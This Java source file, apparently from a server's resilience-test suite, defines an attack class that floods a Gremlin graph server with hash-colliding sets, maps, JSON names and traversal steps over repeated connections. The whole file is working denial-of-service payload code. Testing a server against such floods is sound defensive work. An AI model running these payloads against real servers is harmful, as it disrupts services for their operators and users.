package io.bg3.server.hostile;

import io.bg3.server.guard.Messages;
import java.net.InetAddress;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import java.util.StringJoiner;
import java.util.UUID;

/**
 * Sets and maps whose keys all have one hash code: while a message is read, in GraphBinary and in
 * GraphSON, and while a step collects them. Two integers a and b as a list have the hash 961 + 31 a
 * + b, and lists are not comparable, so no tree of a hash map orders them.
 */
final class CollidingCollections extends Attack {
  private static final int CONNECTIONS = 6;
  private static final int MESSAGES = 8;
  private static final int BINARY_KEYS = 57_000; // 18 bytes each, a message of 1 MiB
  private static final int JSON_KEYS = 9_000;
  private static final int STEP_KEYS = 20_000;
  private static final long PAUSE_MILLIS = 20;
  private static final UUID ID = new UUID(3, 4);

  private final List<ByteBuffer> pool = pool(MESSAGES, this::message);

  CollidingCollections(Target target, long seed, InetAddress from) {
    super(target, seed, from);
  }

  private ByteBuffer message() {
    int hash = random().nextInt();
    return switch (random().nextInt(5)) {
      case 0 -> Frames.binary(set(hash));
      case 1 -> Frames.binary(map(hash));
      case 2 -> Frames.text(json(hash, random().nextBoolean() ? "g:Set" : "g:Map"));
      case 3 -> Frames.text(jsonNames());
      default -> collected(hash);
    };
  }

  private static byte[] set(int hash) {
    RawRequest request = new RawRequest("eval", "bindings", ID).map(1).string("x");
    request.set(BINARY_KEYS);
    for (int i = 0; i < BINARY_KEYS; i++) {
      request.list(2).integer(i).integer(hash - 31 * i);
    }
    return request.message();
  }

  private static byte[] map(int hash) {
    int keys = BINARY_KEYS * 3 / 4;
    RawRequest request = new RawRequest("eval", "bindings", ID).map(1).string("x").map(keys);
    for (int i = 0; i < keys; i++) {
      request.list(2).integer(i).integer(hash - 31 * i).integer(0);
    }
    return request.message();
  }

  private static String json(int hash, String type) {
    StringJoiner keys = new StringJoiner(",");
    for (int i = 0; i < JSON_KEYS; i++) {
      keys.add(
          "{\"@type\":\"g:List\",\"@value\":[{\"@type\":\"g:Int32\",\"@value\":"
              + i
              + "},{\"@type\":\"g:Int32\",\"@value\":"
              + (hash - 31 * i)
              + "}]}");
      if (type.equals("g:Map")) {
        keys.add("0");
      }
    }
    return request(
        "{\"@type\":\"g:Map\",\"@value\":[\"x\",{\"@type\":\""
            + type
            + "\",\"@value\":["
            + keys
            + "]}]}");
  }

  /** An object whose names collide: each is 13 times Aa or BB. */
  private static String jsonNames() {
    StringJoiner names = new StringJoiner(",");
    for (int i = 0; i < 1 << 13; i++) {
      StringBuilder name = new StringBuilder();
      for (int bit = 0; bit < 13; bit++) {
        name.append((i >> bit & 1) == 0 ? "Aa" : "BB");
      }
      names.add("\"" + name + "\":0");
    }
    return request("{" + names + "}");
  }

  private static String request(String bindings) {
    return "{\"requestId\":\""
        + ID
        + "\",\"op\":\"eval\",\"processor\":\"\",\"args\":{\"gremlin\":\"g.inject(1)\","
        + "\"bindings\":"
        + bindings
        + "}}";
  }

  /** Lists that a step puts into a hash map of its own. */
  private ByteBuffer collected(int hash) {
    List<List<Integer>> lists = new ArrayList<>();
    for (int i = 0; i < STEP_KEYS; i++) {
      lists.add(List.of(i, hash - 31 * i));
    }
    Query start = Query.inject(lists);
    Query query =
        switch (random().nextInt(5)) {
          case 0 -> start.step("unfold").step("dedup").step("count");
          case 1 -> start.step("unfold").step("groupCount");
          case 2 -> start.step("merge", lists.subList(0, STEP_KEYS / 2));
          case 3 -> start.step("intersect", lists.subList(0, STEP_KEYS / 2));
          default -> start.step("unfold").step("group").step("count");
        };
    return Frames.binary(Messages.binary(query.bytecode()));
  }

  @Override
  void begin() {
    keepAsking(CONNECTIONS, pool, 1, PAUSE_MILLIS);
  }
}
